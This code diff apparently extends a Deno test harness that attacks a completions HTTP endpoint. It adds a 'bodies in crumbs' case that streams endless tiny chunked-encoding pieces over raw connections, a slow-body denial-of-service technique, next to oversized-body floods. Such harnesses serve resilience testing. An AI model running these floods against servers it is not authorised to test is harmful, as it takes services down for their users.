@@ -107,6 +107,24 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     300,
     (target) => head(target, `POST ${COMPLETIONS}`, "Content-Length: 4000000") + '\r\n{"prompt":"',
   ),
+  "bodies in crumbs": again(8, async (target, over, i) => {
+    const { hostname, port } = new URL(target.url);
+    const piece = i % 2 === 0 ? "1\r\n \r\n" : `28\r\n${" ".repeat(40)}\r\n`;
+    const bytes = new TextEncoder().encode(piece.repeat(1000));
+    const connection = await Deno.connect({ hostname, port: Number(port) });
+    try {
+      const start = head(target, `POST ${COMPLETIONS}`, "Transfer-Encoding: chunked") + "\r\n";
+      await connection.write(new TextEncoder().encode(start));
+      while (!over.aborted) await connection.write(bytes);
+    } catch {
+      // ended by the server
+    }
+    try {
+      connection.close();
+    } catch {
+      // by the server
+    }
+  }),
   "large bodies": bodies(
     COMPLETIONS,
     () => `{"prompt":${many('""', 1_300_000)}}`,
